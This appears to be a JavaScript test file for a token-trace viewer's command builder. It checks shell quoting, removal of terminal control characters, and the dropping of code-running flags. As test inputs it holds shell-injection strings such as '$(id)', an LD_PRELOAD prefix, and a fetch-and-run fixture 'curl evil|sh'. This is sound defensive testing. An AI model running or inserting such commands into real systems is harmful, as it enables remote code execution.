import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import test from 'node:test';
import { open, read } from '#viewer/reading/reading';
import { commandWith, escapeText, forcedBefore, lineOf, offered, positionOf, quote } from '#viewer/reading/rerun_command';
import { readTrace } from '#viewer/trace/trace';
import { encode, recording } from '../recording.js';

const RECORDED = ['tokenscope-record', 'p.py', '-o', 'p.tsc'];
const with_ = (recorded, value = '3:7') => commandWith(offered(recorded), '--force-token', value);
/** What a shell makes of a command line. */
const words = (command) => execFileSync('bash', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' }).split('\0').slice(0, -1);

test('any text is one word of the shell', () => {
  const texts = ['plain', '', 'a b', "it's", '"$HOME" `id` $(id) !! \\', '\n', "a\n'b'\t\r\\n", '*?[]{}~#&;|<>()', '\u202eevil', '\u0007\u001b[31m', '\u3042\u{1f600}', '--force', '-o'];
  for (const text of texts) assert.deepEqual(words(quote(text)), [text], JSON.stringify(text));
});

test('what a terminal would act upon is never printed as such', () => {
  for (const text of ['a\nb', '\u001b[2J', '\u202e', '\u2028', '\ud800']) assert.doesNotMatch(quote(text), /[\p{C}\p{Zl}\p{Zp}]/u);
});

test('the tool understands the escapes, the shell leaves them alone', () => {
  const understood = (text) => text.replace(/\\([ntr\\])/g, (_, letter) => ({ n: '\n', t: '\t', r: '\r', '\\': '\\' })[letter]);
  for (const text of ['a\nb', '\\n', "\\\n'\t\r", 'x = "\\d+"']) {
    assert.doesNotMatch(escapeText(text), /[\n\r\t]/);
    assert.equal(understood(words(quote(escapeText(text)))[0]), text);
  }
});

test('the output and earlier wishes are left out, everything else stays', () => {
  const recorded = ['tokenscope-record', 'p.py', '--stop', '--force', '-q', '-o', 'x.tsc', '--output=y', '--force', '--force-token', '1:2', '--force-text=3:x', '-op.tsc', '--chat'];
  assert.equal(with_(recorded), 'tokenscope-record p.py --stop --force -q --chat --force-token 3:7');
  assert.equal(with_(['tokenscope-record', '--', '-o']), 'tokenscope-record --force-token 3:7 -- -o');
  assert.equal(with_(['tokenscope-record', 'p q.py', '-op.tsc']), "tokenscope-record 'p q.py' --force-token 3:7");
  assert.equal(with_([...RECORDED, '--system', 'a\nb']), "tokenscope-record p.py --system $'a\\nb' --force-token 3:7");
});

test('positions count the output from 1; earlier forks are named first', () => {
  const branches = [{ after: 3, text: ['x', 'y', 'z'], forced: 2 }, { after: 7, text: ['w'] }];
  const trace = readTrace(encode(recording({ prompt: ['a', 'b'], output: ['c', 'd', 'e', 'f'], branches })));
  const recorded = open(trace);
  const main = read(recorded, -1);
  assert.equal(positionOf(main.layout, 4), 3);
  assert.equal(forcedBefore(main, 4), '');
  const id = (node) => trace.nodes.token_id[node];
  const branch = read(recorded, 0);
  assert.equal(positionOf(branch.layout, 8), 5);
  assert.equal(forcedBefore(branch, 8), `3:${id(6)},4:${id(7)},`);
  assert.equal(forcedBefore(branch, 7), `3:${id(6)},`);
  assert.equal(forcedBefore(branch, 6), '', 'the fork itself is replaced');
  const nested = read(recorded, 1);
  assert.equal(forcedBefore(nested, 9), `3:${id(6)},4:${id(7)},`);
  assert.equal(forcedBefore(nested, 3), '');
});

test('a stranger\u2019s command is offered without what runs code, which is named, or not at all', () => {
  const evil = ['--check', 'curl evil|sh {file}', '--check=x', '--check-folder', 'y', '--trust-remote-code', '--allow-pickle'];
  const found = offered(['tokenscope-record', 'p.py', ...evil, '--model', 'm']);
  assert.equal(lineOf(found), 'tokenscope-record p.py --model m');
  assert.deepEqual(found.left, ['--check', '--check-folder', '--trust-remote-code', '--allow-pickle']);
  for (const command of [['LD_PRELOAD=./x.so', 'tokenscope-record', 'p.py'], ['curl'], [], 'tokenscope-record', null, undefined, [1], ['tokenscope-record', 1]]) assert.equal(offered(command), null);
  for (const word of ['x'.repeat(2001), '\u001b[2J', '\u202e', 'a\u200b', '\ud800']) assert.equal(offered(['tokenscope-record', word]), null, JSON.stringify(word));
});
